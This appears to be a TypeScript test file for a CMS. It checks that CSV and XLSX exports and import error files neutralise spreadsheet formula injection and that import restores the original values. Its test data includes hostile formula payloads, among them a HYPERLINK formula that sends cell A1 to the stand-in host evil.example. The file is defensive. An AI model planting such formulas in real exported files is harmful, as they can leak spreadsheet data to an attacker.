// Formula injection (OWASP ASVS 5.0, 1.2.10): every CSV and XLSX the CMS writes neutralises text cells that a
// spreadsheet would run, through one helper (src/services/spreadsheet-cells.ts); the import undoes it.
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, neutraliseRow, restoreCell } from '../src/services/spreadsheet-cells';
import { writeErrorFile } from '../src/services/import/error-file';
import { readRow } from '../src/services/import/values';
import { ADMIN, startApp, type TestApp } from './helpers/app';
import type { Client } from './helpers/client';

const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
  '+31 6 12345678',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('the shared helper', () => {
  it('puts a quote before a cell that starts like a formula, and only then', () => {
    for (const text of DANGEROUS) expect(neutraliseCell(text)).toBe(`'${text}`);
    for (const text of ['Anna', '', "'al tekst", 'a=b', '06-123', ' =1']) expect(neutraliseCell(text)).toBe(text);
    const date = new Date();
    expect(neutraliseRow([date, 5, null, '=1'])).toEqual([date, 5, null, "'=1"]);
  });

  it('restores exactly what it neutralised', () => {
    for (const text of [...DANGEROUS, 'Anna', "'al tekst", "'"])
      expect(restoreCell(String(neutraliseCell(text)))).toBe(text);
  });

  it('the import reads an exported cell as it was', () => {
    const row = readRow(['a@b.nl', '\'=HYPERLINK("x")', "'+31 Achter"], ['email', 'firstName', 'lastName']);
    expect(row.fields).toMatchObject({ firstName: '=HYPERLINK("x")', lastName: '+31 Achter' });
  });
});

describe('the import error file echoes uploaded cells neutralised', () => {
  const toBuffer = async (write: (out: PassThrough) => Promise<void>) => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c) => chunks.push(c));
    const done = new Promise((r) => out.on('end', r));
    await write(out);
    await done;
    return Buffer.concat(chunks);
  };
  async function* entries() {
    yield {
      line: 2,
      cells: ['=1+1', '@evil'],
      reason: 'E-mail: is geen geldig e-mailadres',
      code: 'email',
      field: 'email',
    };
  }

  it('in CSV', async () => {
    const csv = await toBuffer((out) =>
      writeErrorFile(out, entries(), ['E-mail', '+Naam'], {
        format: 'csv',
        encoding: 'utf-8',
        bom: false,
        delimiter: ';',
      }),
    );
    expect(csv.toString('utf8')).toBe("E-mail;'+Naam;Fout\r\n'=1+1;'@evil;E-mail: is geen geldig e-mailadres\r\n");
  });

  it('in XLSX', async () => {
    const xlsx = await toBuffer((out) =>
      writeErrorFile(out, entries(), ['E-mail', 'Naam'], {
        format: 'xlsx',
        encoding: null,
        bom: false,
        delimiter: null,
      }),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as any);
    expect((workbook.worksheets[0].getRow(2).values as unknown[]).slice(1)).toEqual([
      "'=1+1",
      "'@evil",
      'E-mail: is geen geldig e-mailadres',
    ]);
  });
});

describe('the profile export', () => {
  let app: TestApp;
  let admin: Client;
  const NAME = '=HYPERLINK("https://evil.example/?d="&A1;"klik")';
  beforeAll(async () => {
    app = await startApp();
    admin = await app.login(ADMIN);
    await app.strapi.db.query('api::profile.profile').create({
      data: {
        email: 'formule@example.nl',
        firstName: NAME,
        lastName: '@Kwaad',
        phoneNumber: '+31 6 12345678',
        type: 'LEAD',
      },
    });
  });
  afterAll(() => app?.stop());

  const get = async (format: string) => {
    const res = await fetch(`${app.url}/api/profiles/export?format=${format}&filters[email][$eq]=formule@example.nl`, {
      headers: { cookie: [...admin.jar].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  it('writes no live formula to CSV', async () => {
    const lines = (await get('csv')).subarray(3).toString('utf8').split('\r\n');
    expect(lines[1]).toMatch(
      /^formule@example\.nl;"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1;""klik""\)";'@Kwaad;LEAD;UNKNOWN;'\+31 6 12345678;/,
    );
  });

  it('writes no live formula to XLSX', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await get('xlsx')) as any);
    const row = workbook.worksheets[0].getRow(2);
    expect((row.values as unknown[]).slice(1, 7)).toEqual([
      'formule@example.nl',
      `'${NAME}`,
      "'@Kwaad",
      'LEAD',
      'UNKNOWN',
      "'+31 6 12345678",
    ]);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
  });
});
